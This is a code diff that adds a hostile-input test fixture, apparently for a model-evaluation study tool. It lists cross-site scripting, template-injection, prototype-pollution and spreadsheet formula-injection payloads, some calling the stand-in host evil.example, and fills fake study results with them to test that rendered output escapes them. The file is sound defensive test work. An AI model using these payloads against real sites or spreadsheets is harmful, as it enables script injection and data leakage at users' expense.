@@ -240,3 +240,110 @@ def study(
             "cost": "none",
         },
     )
+
+
+# ---------------------------------------------------------------- hostile text
+
+INJECTIONS = (
+    "<script>window.pwned=1</script>",
+    "</script><script>window.pwned=1</script>",
+    "<ScRiPt >window.pwned=1</sCrIpT>",
+    "<script src=https://evil.example/x.js></script>",
+    "<img src=x onerror=window.pwned=1>",
+    "<img src='https://evil.example/p.png'>",
+    '"><img src=x onerror="window.pwned=1">',
+    "'><svg onload=window.pwned=1>",
+    "<svg/onload=window.pwned=1>",
+    "<svg><script>window.pwned=1</script></svg>",
+    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>",
+    "<body onload=window.pwned=1>",
+    "<iframe src=javascript:window.top.pwned=1></iframe>",
+    "<iframe srcdoc='<script>top.pwned=1</script>'></iframe>",
+    "<object data=javascript:window.pwned=1></object>",
+    "<embed src=https://evil.example/e.swf>",
+    "<a href=javascript:window.pwned=1>click</a>",
+    "javascript:window.pwned=1",
+    "<base href=https://evil.example/>",
+    "<link rel=stylesheet href=https://evil.example/s.css>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
+    "<style>@import 'https://evil.example/s.css';</style>",
+    "<style>*{background:url(https://evil.example/b.png)}</style>",
+    "</style><script>window.pwned=1</script>",
+    "</title><script>window.pwned=1</script>",
+    "</textarea><script>window.pwned=1</script>",
+    "</noscript><script>window.pwned=1</script>",
+    "<!--><script>window.pwned=1</script>-->",
+    "<!-- <script>",
+    "]]><script>window.pwned=1</script>",
+    "{{ ''.__class__.__mro__ }}{{ 7*7 }}",
+    "{% raw %}{{ pwned }}{% endraw %}",
+    "${window.pwned=1}",
+    "`${window.pwned=1}`",
+    "\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e",
+    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
+    "&#60;script&#62;window.pwned=1&#60;/script&#62;",
+    "line\u2028window.pwned=1\u2029paragraph",
+    "nul\x00<script>window.pwned=1</script>",
+    "\x1b]8;;javascript:window.pwned=1\x07link\x1b]8;;\x07",
+    "\u202e<script>window.pwned=1</script>\u202c",
+    "\ud800<img src=x onerror=window.pwned=1>",
+    "<details open ontoggle=window.pwned=1>",
+    "<input autofocus onfocus=window.pwned=1>",
+    "<video><source onerror=window.pwned=1></video>",
+    "<form action=https://evil.example/><button>go</button></form>",
+    "<template><img src=x onerror=window.pwned=1></template>",
+    "datum.constructor.constructor('window.pwned=1')()",
+    "__proto__",
+    "constructor",
+    '=HYPERLINK("https://evil.example/?"&A1)',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+)
+"""What a model or a file might say to get a page to run something."""
+
+
+def hostile_study() -> Results:
+    """A study in which every text is an injection: each alone where there is room for all, joined where there is not."""
+    asked, made = arms(), INJECTIONS
+    who = tuple(_hostile_arm(arm, made[i::3]) for i, arm in enumerate(asked))
+    names = tuple(" ".join(made[i::4]) for i in range(4))
+    posed = tuple(_hostile_pair(names[b], text, i) for b in range(4) for i, text in enumerate(made))
+    said = {(reply.model, reply.prompt_id): reply for reply in _hostile_replies(posed, who)}
+    return Results.build(
+        " ".join(made),
+        who,
+        posed,
+        said.values(),
+        trained_biases=names[:1],
+        skipped=tuple(Skipped(names[0], text, 1) for text in made),
+        about={f"{i} {text}": text for i, text in enumerate(made)},
+    )
+
+
+def _hostile_arm(arm: Arm, made: tuple[str, ...]) -> Arm:
+    text = arm.label + " ".join(made)
+    checkpoint = Checkpoint(text, text, text, text, text, text, 1, 1)
+    return Arm(text, text, text, arm.role, None if arm.role == "base" else checkpoint)
+
+
+def _hostile_pair(bias: str, text: str, i: int) -> Pair:
+    options = (f"{text} one", f"{text} two", f"{text} three")
+    question = Question(f"{i} {text}", options, i % 3, text, "test")
+    clean = Prompt(
+        (Turn("system", (Part("stem", text),)), Turn("user", (Part("stem", question.stem), Part("instruction", text))))
+    )
+    cue = (Part("cue", f"{bias} {text}"),)
+    biased = Prompt((*clean.turns, Turn("assistant", None), Turn("user", cue)))
+    return Pair(content_id(biased.id), question, bias, text, clean, biased, Toward((i + 1) % 3), (0, 1, 2), 0)
+
+
+def _hostile_replies(posed: tuple[Pair, ...], who: tuple[Arm, ...]) -> Iterator[Reply]:
+    for one in posed:
+        for arm in who:
+            for prompt in (one.clean, one.biased):
+                choice = rng(0, "hostile", arm.label, prompt.id).randrange(3)
+                text = f"{one.question.stem}\n\nThe best answer is: ({letter(choice)})."
+                turns = (
+                    (f"The answer is ({letter(one.question.gold or 0)}). {one.elicit}",) if prompt.n_model_turns else ()
+                )
+                yield Reply(prompt.id, arm.model, arm.weights, 0, text, one.elicit, turns, "end", Settings(), 1, 1)
